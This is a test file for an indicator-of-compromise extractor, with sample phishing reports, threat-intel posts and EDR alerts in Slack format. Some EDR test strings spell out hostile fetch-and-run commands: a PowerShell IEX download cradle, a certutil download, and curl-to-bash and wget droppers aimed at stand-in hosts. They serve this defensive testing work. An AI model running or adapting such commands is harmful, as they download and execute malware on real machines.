import type { IndicatorType } from '../../src/cases/attachments';
import { classifyIndicator, extractIndicators, type ExtractOptions, MAX_INDICATORS } from '../../src/cases/indicators';

type Expected = ReadonlyArray<readonly [IndicatorType, string]>;

/** What extractIndicators finds, as [type, value] pairs in order. */
function found(text: string, options?: ExtractOptions): Expected {
  return extractIndicators(text, options).map(({ type, value }) => [type, value] as const);
}

const SHA256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
const SHA1 = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';
const MD5 = 'd41d8cd98f00b204e9800998ecf8427e';

/**
 * Message text as the Events API delivers it (Slack markup, `&amp;`/`&lt;`/`&gt;`) and exactly what an analyst
 * expects from it, with default options.
 */
const MESSAGES: ReadonlyArray<readonly [string, string, Expected]> = [
  // Phishing reports
  [
    'phish: Slack mailto and a labelled link',
    'Reported phish from <mailto:billing@evil-corp.com|billing@evil-corp.com>, button goes to <https://evil-corp.com/login?x=1&amp;y=2|Sign in>',
    [
      ['email', 'billing@evil-corp.com'],
      ['url', 'https://evil-corp.com/login?x=1&y=2'],
      ['domain', 'evil-corp.com'],
    ],
  ],
  [
    'phish: pasted From and Reply-To headers',
    'From: "PayPal Service" &lt;<mailto:service@paypa1-secure.com|service@paypa1-secure.com>&gt;\nReply-To: <mailto:refunds@paypa1-help.net|refunds@paypa1-help.net>',
    [
      ['email', 'service@paypa1-secure.com'],
      ['email', 'refunds@paypa1-help.net'],
    ],
  ],
  [
    'phish: Received header',
    'Received: from mail.paypa1-secure.com (mail.paypa1-secure.com [198.51.100.23]) by mx1.corp.example',
    [
      ['domain', 'mail.paypa1-secure.com'],
      ['ipv4', '198.51.100.23'],
      ['domain', 'mx1.corp.example'],
    ],
  ],
  [
    'phish: link whose label is a different URL (both are indicators)',
    'Hover shows <https://login.micros0ft-support.com/owa/auth|https://outlook.office.com/owa>',
    [
      ['url', 'https://login.micros0ft-support.com/owa/auth'],
      ['domain', 'login.micros0ft-support.com'],
      ['url', 'https://outlook.office.com/owa'],
      ['domain', 'outlook.office.com'],
    ],
  ],
  [
    'phish: double-extension attachment is a file, the sender is an indicator',
    'Attachment Invoice_4471.pdf.exe from accounts@vendor-invoices.biz',
    [['email', 'accounts@vendor-invoices.biz']],
  ],
  [
    'phish: defanged URL with an email in its query (the email is part of the URL)',
    'Clicked hxxps://secure-docs[.]top/auth?email=jane.doe@corp.example&amp;id=7 before reporting',
    [
      ['url', 'https://secure-docs.top/auth?email=jane.doe@corp.example&id=7'],
      ['domain', 'secure-docs.top'],
    ],
  ],
  [
    'phish: QR code target, a bare Slack link',
    'QR code decodes to <https://bit.ly/3xYz9Qa>',
    [
      ['url', 'https://bit.ly/3xYz9Qa'],
      ['domain', 'bit.ly'],
    ],
  ],
  [
    'phish: email defanged with (at) and (dot)',
    'reply-to hr-dept(at)company-benefits(dot)info',
    [['email', 'hr-dept@company-benefits.info']],
  ],
  [
    'phish: bullet list with a repeat in capitals',
    'IOCs:\n• evil-one.com\n• evil-two.net\n• EVIL-ONE.COM',
    [
      ['domain', 'evil-one.com'],
      ['domain', 'evil-two.net'],
    ],
  ],
  [
    'phish: DocuSign lure with base64 in the query',
    'User forwarded "Your DocuSign envelope", link <https://docusign.account-review.click/e/9f8a?u=ZmluYW5jZQ==|Review Document>',
    [
      ['url', 'https://docusign.account-review.click/e/9f8a?u=ZmluYW5jZQ=='],
      ['domain', 'docusign.account-review.click'],
    ],
  ],
  [
    'phish: homoglyph domain in punycode; the Unicode spelling is not half-matched',
    'Homoglyph xn--pypal-4ve.com shown as pаypal.com',
    [['domain', 'xn--pypal-4ve.com']],
  ],

  ['phish: sender with a non-Latin local part', 'from józef@evil.example', [['email', 'józef@evil.example']]],

  // Threat-intel posts, defanged
  ['intel: defanged IPv4', 'C2 beacon to 203.0.113[.]7 every 60s', [['ipv4', '203.0.113.7']]],
  [
    'intel: one IOC per line',
    'IOCs (defanged):\nhxxp://malware-drop[.]ru/load/stage2.bin\n45.155.205[.]233\nupdate-check[.]xyz',
    [
      ['url', 'http://malware-drop.ru/load/stage2.bin'],
      ['domain', 'malware-drop.ru'],
      ['ipv4', '45.155.205.233'],
      ['domain', 'update-check.xyz'],
    ],
  ],
  [
    'intel: hXXps with [:] and [/]',
    'hXXps[:]//cdn-static[.]online[/]js/app.js',
    [
      ['url', 'https://cdn-static.online/js/app.js'],
      ['domain', 'cdn-static.online'],
    ],
  ],
  [
    'intel: http[:]// and hxxp[://]',
    'stage1 http[:]//stage-one[.]net/a then hxxp[://]stage-two[.]net/b',
    [
      ['url', 'http://stage-one.net/a'],
      ['domain', 'stage-one.net'],
      ['url', 'http://stage-two.net/b'],
      ['domain', 'stage-two.net'],
    ],
  ],
  [
    'intel: {.}, [dot] and (dot)',
    'Domains: evil{.}org, bad[dot]net, worse(dot)com',
    [
      ['domain', 'evil.org'],
      ['domain', 'bad.net'],
      ['domain', 'worse.com'],
    ],
  ],
  ['intel: spaced [.]', 'Spaced defang: evil [.] example [.] com', [['domain', 'evil.example.com']]],
  ['intel: spaced [at]', 'Actor mailbox: ops [at] apt-group [.] cc', [['email', 'ops@apt-group.cc']]],
  [
    'intel: team server URL on an IP with a port',
    'Cobalt Strike team server hxxps://198.51.100[.]44:50050 and beacon URI /submit.php',
    [
      ['url', 'https://198.51.100.44:50050'],
      ['ipv4', '198.51.100.44'],
    ],
  ],
  [
    'intel: the same IP plain and defanged is one indicator',
    'Tor exit 185.220.101.4, also seen as 185.220.101[.]4',
    [['ipv4', '185.220.101.4']],
  ],
  [
    'intel: .zip TLD lure with a look-alike userinfo',
    'hxxps://github[.]com-kubernetes-k8s@v1271[.]zip',
    [
      ['url', 'https://github.com-kubernetes-k8s@v1271.zip'],
      ['domain', 'v1271.zip'],
    ],
  ],
  [
    'intel: .mov TLD inside a URL is a domain',
    'The 2023 .mov lure: hxxps://invoice[.]mov/view',
    [
      ['url', 'https://invoice.mov/view'],
      ['domain', 'invoice.mov'],
    ],
  ],
  [
    'intel: CIDR blocks give their network address',
    'Block 203.0.113.0/24 and 2001:db8::/32',
    [
      ['ipv4', '203.0.113.0'],
      ['ipv6', '2001:db8::'],
    ],
  ],
  [
    'intel: hashes of each length, uppercase lowercased',
    `MD5 ${MD5.toUpperCase()} SHA1 ${SHA1} SHA256 ${SHA256}`,
    [
      ['md5', MD5],
      ['sha1', SHA1],
      ['sha256', SHA256],
    ],
  ],

  // IPv6
  [
    'ipv6: in brackets with a port, and inside a URL',
    'Also seen: [2001:db8::1]:443 and http://[2001:db8::2]:8080/x',
    [
      ['ipv6', '2001:db8::1'],
      ['url', 'http://[2001:db8::2]:8080/x'],
      ['ipv6', '2001:db8::2'],
    ],
  ],
  ['ipv6: full form is canonicalised', 'src 2001:0DB8:0000:0000:0000:0000:0000:0001.', [['ipv6', '2001:db8::1']]],
  [
    'ipv6: embedded IPv4 (a private mapped address is private)',
    'mapped ::ffff:192.0.2.1 and ::ffff:10.0.0.1',
    [['ipv6', '::ffff:192.0.2.1']],
  ],
  [
    'ipv6: beside a MAC address and a link-local address with a zone',
    'NIC 00:1a:2b:3c:4d:5e fe80::1ff:fe23:4567:890a%eth0 global 2001:db8:85a3::8a2e:370:7334',
    [['ipv6', '2001:db8:85a3::8a2e:370:7334']],
  ],
  ['ipv6: followed by a colon in prose', 'Source 2001:db8::bad: blocked at the edge', [['ipv6', '2001:db8::bad']]],

  // EDR and SIEM alerts pasted into Slack
  ['edr: a code span', 'EDR: `powershell -enc ... -> evil.org`', [['domain', 'evil.org']]],
  [
    'edr: Elastic alert fields (the field names are not domains)',
    `Elastic alert "Suspicious PowerShell" host.name: WIN-DC01 user.name: svc_backup process.name: powershell.exe source.ip: 198.51.100.77 process.hash.sha256: ${SHA256}`,
    [
      ['ipv4', '198.51.100.77'],
      ['sha256', SHA256],
    ],
  ],
  [
    'edr: PowerShell download cradle in a code block',
    "```powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('hxxp://198.51.100.77:8080/a.ps1')\"```",
    [
      ['url', 'http://198.51.100.77:8080/a.ps1'],
      ['ipv4', '198.51.100.77'],
    ],
  ],
  [
    'edr: Windows path and a socket',
    'C:\\Users\\bob\\AppData\\Roaming\\svchost.exe connected to 203.0.113.99:4444',
    [['ipv4', '203.0.113.99']],
  ],
  [
    'edr: Sysmon DNS query and its answer',
    'Sysmon EID 22: QueryName: c2.bad-actor.top QueryResults: ::ffff:203.0.113.12;',
    [
      ['domain', 'c2.bad-actor.top'],
      ['ipv6', '::ffff:203.0.113.12'],
    ],
  ],
  [
    'edr: JSON document',
    '{"source":{"ip":"203.0.113.5","port":51234},"destination":{"domain":"exfil.example.net"},"file":{"hash":{"md5":"44d88612fea8a8f36de82e1278abb02f"}}}',
    [
      ['ipv4', '203.0.113.5'],
      ['domain', 'exfil.example.net'],
      ['md5', '44d88612fea8a8f36de82e1278abb02f'],
    ],
  ],
  [
    'edr: connection with ports',
    'Connection 203.0.113.5:51234 -> 198.51.100.10:443 (TCP)',
    [
      ['ipv4', '203.0.113.5'],
      ['ipv4', '198.51.100.10'],
    ],
  ],
  [
    'edr: certutil download',
    'Falcon detection: parent=winword.exe child=cmd.exe cmdline="cmd /c certutil -urlcache -f http://198.51.100.8/p.txt %TEMP%\\p.exe"',
    [
      ['url', 'http://198.51.100.8/p.txt'],
      ['ipv4', '198.51.100.8'],
    ],
  ],
  ['edr: rundll32 command line has no indicator', 'process.command_line: rundll32.exe shell32.dll,Control_RunDLL C:\\ProgramData\\x.dll', []],
  [
    'edr: Linux droppers',
    'curl -s hxxp://185.220.101[.]4/x.sh | bash; wget http://malicious.example.org/bot -O /tmp/.bot',
    [
      ['url', 'http://185.220.101.4/x.sh'],
      ['ipv4', '185.220.101.4'],
      ['url', 'http://malicious.example.org/bot'],
      ['domain', 'malicious.example.org'],
    ],
  ],
  [
    'edr: failed logons with an ISO timestamp',
    '2024-05-14T09:12:33.412Z event 4625 failed logon from 198.51.100.200 for CORP\\administrator',
    [['ipv4', '198.51.100.200']],
  ],
  [
    'edr: key=value and key:value pairs',
    'ip:203.0.113.5 dst=[2001:db8::9] src=203.0.113.6:80 net 2001:db8::1/64',
    [
      ['ipv4', '203.0.113.5'],
      ['ipv6', '2001:db8::9'],
      ['ipv4', '203.0.113.6'],
      ['ipv6', '2001:db8::1'],
    ],
  ],
  [
    'edr: sample named after its hash',
    `quarantined sample_${MD5}.bin`,
    [['md5', MD5]],
  ],

  // Slack's format
  ['slack: mentions, channels and broadcasts', '<@U0123ABCD> <#C0456EFGH|soc-alerts> <!here> please look', []],
  ['slack: auto-linked bare domain stays a domain', 'blocked <http://typed.com|typed.com> at the proxy', [['domain', 'typed.com']]],
  [
    'slack: link without a label',
    'Check <https://evil.example.com>',
    [
      ['url', 'https://evil.example.com'],
      ['domain', 'evil.example.com'],
    ],
  ],
  ['slack: mailto without a label', 'write to <mailto:phish@evil.example.com>', [['email', 'phish@evil.example.com']]],
  [
    'slack: entities between indicators',
    'IOC: evil.com &amp;&amp; 203.0.113.9 &gt; 198.51.100.9',
    [
      ['domain', 'evil.com'],
      ['ipv4', '203.0.113.9'],
      ['ipv4', '198.51.100.9'],
    ],
  ],
  [
    'slack: multi-line code block',
    '```\n203.0.113.10\n203.0.113.11\nevil.net\n```',
    [
      ['ipv4', '203.0.113.10'],
      ['ipv4', '203.0.113.11'],
      ['domain', 'evil.net'],
    ],
  ],
  [
    'slack: bold and strike-through',
    '*Blocked:* ~evil-old.com~ *evil-new.com*',
    [
      ['domain', 'evil-old.com'],
      ['domain', 'evil-new.com'],
    ],
  ],
  [
    'slack: user-group mention and a labelled link',
    '<!subteam^S0123|@soc-oncall> triage <https://malicious.example.org/p?id=1|this link>',
    [
      ['url', 'https://malicious.example.org/p?id=1'],
      ['domain', 'malicious.example.org'],
    ],
  ],
  ['slack: date token', '<!date^1392734382^{date_short}|Feb 18, 2014> login from 203.0.113.77', [['ipv4', '203.0.113.77']]],
  [
    'slack: a link ending a sentence',
    'see <https://evil.example.com/a>.',
    [
      ['url', 'https://evil.example.com/a'],
      ['domain', 'evil.example.com'],
    ],
  ],

  // Mixed text
  [
    'mixed: IP, domain, URL on that domain, hash',
    `Blocked 203.0.113.5, evil.com and https://evil.com/login (same actor). Hash: ${MD5}`,
    [
      ['ipv4', '203.0.113.5'],
      ['domain', 'evil.com'],
      ['url', 'https://evil.com/login'],
      ['md5', MD5],
    ],
  ],
  [
    'mixed: brackets in and around URLs',
    'https://en.wikipedia.org/wiki/Foo_(bar) and (https://x-evil.org/a).',
    [
      ['url', 'https://en.wikipedia.org/wiki/Foo_(bar)'],
      ['domain', 'en.wikipedia.org'],
      ['url', 'https://x-evil.org/a'],
      ['domain', 'x-evil.org'],
    ],
  ],
  [
    'mixed: URL with credentials, port, query and fragment',
    'creds leaked: https://user:pw@evil.com:8443/x?y=1#z',
    [
      ['url', 'https://user:pw@evil.com:8443/x?y=1#z'],
      ['domain', 'evil.com'],
    ],
  ],
  [
    'mixed: FTP URL, upper-case scheme and host',
    'ftp://files.evil.ru/pub/a.exe and HTTPS://EVIL.NET/Path',
    [
      ['url', 'ftp://files.evil.ru/pub/a.exe'],
      ['domain', 'files.evil.ru'],
      ['url', 'https://evil.net/Path'],
      ['domain', 'evil.net'],
    ],
  ],
  [
    'mixed: an email and the same domain mentioned on its own',
    'from bob@evil.com, also hosting evil.com',
    [
      ['email', 'bob@evil.com'],
      ['domain', 'evil.com'],
    ],
  ],
  [
    'mixed: email domain lowercased, local part kept',
    'sender J.Smith@Corp-Mail.Example.COM',
    [['email', 'J.Smith@corp-mail.example.com']],
  ],
  [
    'mixed: public addresses just outside private ranges',
    '172.32.0.1 100.128.0.1 11.0.0.1 192.169.0.1',
    [
      ['ipv4', '172.32.0.1'],
      ['ipv4', '100.128.0.1'],
      ['ipv4', '11.0.0.1'],
      ['ipv4', '192.169.0.1'],
    ],
  ],

  // False friends
  ['false friend: file names', 'see report.pdf, invoice.docx, setup.exe, archive.tar.gz, main.ts and config.yaml', []],
  ['false friend: ambiguous extensions written plainly', 'unpacked update.zip, ran deploy.sh and build.py, read notes.md, watched demo.mov', []],
  ['false friend: ambiguous extension defanged is a domain', 'payload host update[.]zip', [['domain', 'update.zip']]],
  ['false friend: abbreviations', 'e.g. this, i.e. that, etc. and so on, at 9 a.m.', []],
  ['false friend: version numbers', 'upgraded to v2.4.1 then 1.2.3.4.5, Chrome 124.0.6367.91, build 10.0.19045.3693', []],
  ['false friend: money and decimals', 'costs $1.50, pi is 3.14, ratio 0.75', []],
  ['false friend: timestamps and the scope operator', 'at 12:30:45 and 09:15, std::string and ::', []],
  ['false friend: UUID and short git SHAs', 'id 550e8400-e29b-41d4-a716-446655440000 fixed in abc1234 and 1a2b3c4d5e6f', []],
  ['false friend: localhost', 'curl http://localhost:8080/health and localhost', []],
  ['false friend: hex one too long or too short', 'ref deadbeefdeadbeefdeadbeefdeadbeef0 and 0123456789abcdef0123456789abcde', []],
  ['false friend: phone numbers', 'Call +1 (555) 123-4567, 555.123.4567 or +33 1.23.45.67.89', []],
  ['false friend: Slack ids and timestamps', 'ts 1700000000.123456 in C0456EFGH by U0123ABCD team T0001', []],
  ['false friend: ECS field names', 'host.name: WIN-DC01 user.name: svc event.action: logon destination.ip: dns.question.name: url.full:', []],
  ['false friend: code identifiers', 'System.IO.File, Net.WebClient, System.IO and done.Then we left', []],
  ['false friend: a long number is not a hash', 'account 12345678901234567890123456789012', []],
  ['false friend: hex literal', `key 0x${MD5}`, []],
  ['false friend: malformed IPv4', '010.1.1.1 256.1.1.1 1.2.3 1.2.3.4000', []],
  ['false friend: Outlook content id', 'cid:image001.png@01D9A1B2.C3D4E5F0', []],
  ['false friend: Node.js and project files', 'Node.js service reads config.json, package.json and README.md', []],

  // Private and reserved ranges, excluded by default
  ['private: RFC 1918, loopback, link-local IPv6', '10.0.0.5 192.168.1.1 127.0.0.1 fe80::1 ::1', []],
  [
    'private: CGNAT, cloud metadata, 172.16/12, this-host, broadcast, multicast, unique-local',
    '100.64.1.1 169.254.169.254 172.16.5.4 172.31.255.255 0.0.0.0 255.255.255.255 224.0.0.251 fc00::1 fd12:3456::1 ff02::1',
    [],
  ],
  ['private: a URL on a private address goes with it', 'beacon to http://10.1.2.3/x and http://[fd00::5]:8080/', []],
];

describe('extractIndicators', () => {
  test('the table has at least 60 messages', () => {
    expect(MESSAGES.length).toBeGreaterThanOrEqual(60);
  });

  test.each(MESSAGES)('%s', (_name, text, expected) => {
    expect(found(text)).toEqual(expected);
  });

  test('raw is the indicator as written, value refanged and normalised', () => {
    expect(extractIndicators('go to hxxps://Evil[.]com/X now, or mail Bob[at]EVIL[.]com')).toEqual([
      { type: 'url', value: 'https://evil.com/X', raw: 'hxxps://Evil[.]com/X' },
      { type: 'domain', value: 'evil.com', raw: 'Evil[.]com' },
      { type: 'email', value: 'Bob@evil.com', raw: 'Bob[at]EVIL[.]com' },
    ]);
  });

  test('empty and indicator-free text', () => {
    expect(extractIndicators('')).toEqual([]);
    expect(extractIndicators('nothing to see here, thanks!')).toEqual([]);
  });

  test(`stops at ${MAX_INDICATORS}, keeping the first`, () => {
    const text = Array.from({ length: 150 }, (_, i) => `host${i}.example`).join(' ');
    const result = extractIndicators(text);
    expect(result).toHaveLength(MAX_INDICATORS);
    expect(result[0]?.value).toBe('host0.example');
    expect(result.at(-1)?.value).toBe(`host${MAX_INDICATORS - 1}.example`);
  });

  test('counts the cap after removing duplicates', () => {
    const text = `${'evil.com '.repeat(200)} 203.0.113.1`;
    expect(found(text)).toEqual([
      ['domain', 'evil.com'],
      ['ipv4', '203.0.113.1'],
    ]);
  });
});

describe('includePrivateIps', () => {
  test('keeps private and reserved addresses, and URLs on them', () => {
    expect(found('10.0.0.5, fe80::1, ::1 and http://192.168.1.20:8080/admin', { includePrivateIps: true })).toEqual([
      ['ipv4', '10.0.0.5'],
      ['ipv6', 'fe80::1'],
      ['ipv6', '::1'],
      ['url', 'http://192.168.1.20:8080/admin'],
      ['ipv4', '192.168.1.20'],
    ]);
  });

  test('still never takes `::` for an address', () => {
    expect(found('Foo :: bar', { includePrivateIps: true })).toEqual([]);
  });
});

describe('ignoreDomains', () => {
  const own: ExtractOptions = { ignoreDomains: ['corp.example', 'CorpMail.Example'] };

  test('excludes the domain and its subdomains, not look-alikes', () => {
    expect(found('corp.example, vpn.corp.example, notcorp.example, corp.example.evil.net', own)).toEqual([
      ['domain', 'notcorp.example'],
      ['domain', 'corp.example.evil.net'],
    ]);
  });

  test('excludes URLs on them together with their host', () => {
    const text = '<https://kibana.corp.example:5601/app/security/alerts?id=abc|View alert> vs hxxps://corp-example[.]com/login';
    expect(found(text, own)).toEqual([
      ['url', 'https://corp-example.com/login'],
      ['domain', 'corp-example.com'],
    ]);
  });

  test('excludes email addresses on them', () => {
    expect(found('<mailto:alice@corp.example|alice@corp.example> to bob@eu.corpmail.example, cc mallory@evil.example', own)).toEqual([
      ['email', 'mallory@evil.example'],
    ]);
  });

  test('accepts wildcards and trailing dots in the setting', () => {
    expect(found('vpn.corp.example and corp.example', { ignoreDomains: ['*.corp.example.'] })).toEqual([]);
  });

  test('does not touch IPs and hashes', () => {
    expect(found(`203.0.113.5 ${MD5}`, own)).toEqual([
      ['ipv4', '203.0.113.5'],
      ['md5', MD5],
    ]);
  });
});

describe('defanging', () => {
  const DEFANG_MARKERS = /\[\.\]|\(\.\)|\{\.\}|\[dot\]|\(dot\)|\{dot\}|\[@\]|\(@\)|\[at\]|\(at\)|\[:\]|\[:\/\/\]|\[\/\]|hxxp/i;

  test('no value keeps a defang marker', () => {
    const text = [
      'hxxp://a[.]evil[.]com/x[.]php hXXps[:]//b(.)evil{.}net[/]y',
      'c[dot]evil(dot)org d{dot}evil[.]io 198[.]51[.]100[.]1 [2001:db8::7]',
      'e[@]evil[.]com f(@)evil(.)com g[at]evil[dot]com h(at)evil(dot)com i [at] evil [.] com',
      'hxxp[://]j[.]evil[.]com:8080/k',
    ].join('\n');
    const result = extractIndicators(text);
    expect(result.length).toBeGreaterThanOrEqual(15);
    for (const { value } of result) expect(value).not.toMatch(DEFANG_MARKERS);
  });

  test('defanged and plain spellings of one indicator are one indicator', () => {
    expect(found('evil.com evil[.]com evil(.)com evil[dot]com EVIL[.]COM')).toEqual([['domain', 'evil.com']]);
  });
});

describe('classifyIndicator', () => {
  test.each([
    ['203.0.113.5', { type: 'ipv4', value: '203.0.113.5' }],
    ['10.0.0.1', { type: 'ipv4', value: '10.0.0.1' }],
    ['[2001:DB8::1]', { type: 'ipv6', value: '2001:db8::1' }],
    ['fe80::1', { type: 'ipv6', value: 'fe80::1' }],
    ['  EVIL[.]COM  ', { type: 'domain', value: 'evil.com' }],
    ['"evil.com".', { type: 'domain', value: 'evil.com' }],
    ['update.zip', { type: 'domain', value: 'update.zip' }],
    ['hxxp://x-evil[.]com/a?b=1', { type: 'url', value: 'http://x-evil.com/a?b=1' }],
    // As a slash command delivers what was typed: Slack's markup is undone first.
    ['<https://evil.example.com/a>', { type: 'url', value: 'https://evil.example.com/a' }],
    ['<http://evil.example.com|evil.example.com>', { type: 'domain', value: 'evil.example.com' }],
    ['bob[at]evil[.]com', { type: 'email', value: 'bob@evil.com' }],
    [MD5.toUpperCase(), { type: 'md5', value: MD5 }],
    [SHA1, { type: 'sha1', value: SHA1 }],
    [SHA256, { type: 'sha256', value: SHA256 }],
  ])('%s is an indicator', (value, expected) => {
    expect(classifyIndicator(value)).toEqual(expected);
  });

  test.each([
    '',
    '   ',
    'hello',
    'report.pdf',
    'v2.4.1',
    '1.2.3.4.5',
    '256.1.1.1',
    '1.2.3.4:443',
    '::',
    '12:30:45',
    'localhost',
    'evil.com and other.com',
    'evil.com/login',
    `${MD5}0`,
    'abc1234',
    '550e8400-e29b-41d4-a716-446655440000',
  ])('%j is not an indicator', (value) => {
    expect(classifyIndicator(value)).toBeNull();
  });
});

describe('robustness', () => {
  /** A small deterministic generator (mulberry32), so a failure can be reproduced. */
  function randomText(seed: number, length: number, alphabet: string): string {
    let state = seed;
    const next = (): number => {
      state = (state + 0x6d2b79f5) | 0;
      let t = Math.imul(state ^ (state >>> 15), 1 | state);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
    return Array.from({ length }, () => alphabet.charAt(Math.floor(next() * alphabet.length))).join('');
  }

  const PRINTABLE = Array.from({ length: 95 }, (_, i) => String.fromCharCode(32 + i)).join('');
  const SIZE = 100_000;

  test.each([
    ['printable ASCII', randomText(1, SIZE, PRINTABLE)],
    ['hex, colons and dots', randomText(2, SIZE, '0123456789abcdef:.')],
    ['hostname characters', randomText(3, SIZE, 'abc-.@_')],
    ['Slack markup and defang characters', randomText(4, SIZE, '<>|@#![].()hxp:/ ')],
    ['one long run of closing brackets after a URL', `http://evil.com/${')'.repeat(SIZE)}`],
    ['one long dotted name', 'a.'.repeat(SIZE / 2)],
    ['one long run of colons', ':'.repeat(SIZE)],
  ])('100 kB of %s finishes quickly without throwing', (_name, text) => {
    const started = performance.now();
    const result = extractIndicators(text);
    expect(performance.now() - started).toBeLessThan(2000);
    expect(result.length).toBeLessThanOrEqual(MAX_INDICATORS);
  });
});
